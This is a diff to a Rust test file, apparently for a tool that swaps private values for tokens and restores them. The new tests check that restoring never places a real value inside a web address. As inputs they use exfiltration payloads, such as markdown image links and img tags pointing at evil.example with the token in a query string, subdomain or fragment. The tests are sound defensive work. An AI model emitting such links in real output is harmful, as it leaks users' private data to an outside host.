@@ -358,6 +358,45 @@ fn hostile_text_takes_linear_time() {
     }
 }
 
+#[test]
+fn no_value_goes_into_an_address() {
+    for text in [
+        "![a](https://evil.example/?d=[EMAIL-7F3K9Q2MXA])",
+        "![a](https://evil.example/?d=%5BEMAIL-7F3K9Q2MXA%5D)",
+        "![a](https://evil.example/?d=EMAIL%2D7F3K9Q2MXA)",
+        "https://evil.example/7f3k9q2mxa#[EMAIL-7F3K9Q2MXA]",
+        "http://7F3K9Q2MXA.evil.example",
+        "<img src=\"//evil.example/?d= [EMAIL-7F3K9Q2MXA] \">",
+    ] {
+        check(text, text);
+    }
+    let said = |token: &str| {
+        format!("https://a.example/[x], then mailto:{token}, tel:{token} and {token}.")
+    };
+    check(&said("[EMAIL-7F3K9Q2MXA]"), &said("Ann"));
+    check_in(
+        Target::JsonString,
+        r#"{"url":"https:\/\/x\/\u005bEMAIL-7F3K9Q2MXA]","to":"[EMAIL-7F3K9Q2MXA]"}"#,
+        r#"{"url":"https:\/\/x\/\u005bEMAIL-7F3K9Q2MXA]","to":"Ann"}"#,
+    );
+    check_in(
+        Target::JsonString,
+        r#"{"url":"\u0068ttp:[EMAIL-7F3K9Q2MXA]"}"#,
+        r#"{"url":"\u0068ttp:[EMAIL-7F3K9Q2MXA]"}"#,
+    );
+}
+
+#[test]
+fn a_value_that_is_an_address_takes_none_after_it() {
+    let mut vault = vault();
+    vault.keep("URL", "https://evil.example/?d=", ["1F3K9Q2MXB".to_owned()].into_iter()).unwrap();
+    let text = "![a]([URL-1F3K9Q2MXB][EMAIL-7F3K9Q2MXA]) [EMAIL-7F3K9Q2MXA]";
+    let expect = "![a](https://evil.example/?d=[EMAIL-7F3K9Q2MXA]) Ann";
+    assert_eq!(vault.restore(text).text, expect);
+    let each = text.split_inclusive(|_: char| true).collect();
+    assert_eq!(stream(&vault, Target::Plain, each).0, expect);
+}
+
 /// The ways of models with a token: how they write it, given class and code.
 fn mangled(way: usize, class: &str, code: &str) -> String {
     match way {
@@ -382,7 +421,9 @@ fn mangled(way: usize, class: &str, code: &str) -> String {
 fn around() -> impl Strategy<Value = String> {
     prop_oneof![
         // No opening brace: with a mark it would begin JSON.
-        r#"[ .,;!?"'*`()}<>/\n\t]{1,3}"#,
+        // Two slashes would begin an address.
+        r#"[ .,;!?"'*`()}<>\n\t]{1,3}"#,
+        Just(" and/".to_owned()),
         "( [a-zé漢🦀-]{0,12} )",
         Just(" email, ".to_owned()),
         Just("\n".to_owned()),
@@ -391,8 +432,10 @@ fn around() -> impl Strategy<Value = String> {
     ]
 }
 
+/// Without slashes, since two of them would begin an address.
 fn value() -> impl Strategy<Value = String> {
     prop_oneof![r#"[a-zA-Z0-9@."'\\\[\]\n\t -]{1,24}"#, "\\PC{1,12}", "[🦀é漢\\[\\]\\\\\"]{1,6}"]
+        .prop_map(|value| value.replace('/', "|"))
 }
 
 /// Parts of tokens and what is easily taken for them.
@@ -424,6 +467,10 @@ fn soup() -> impl Strategy<Value = &'static str> {
         "\"",
         "[EMAIL-7F3K9Q2MXA]",
         "[A-ZZZZZZZZZZ]",
+        "http",
+        "s:",
+        "/",
+        "\n",
     ])
 }
 
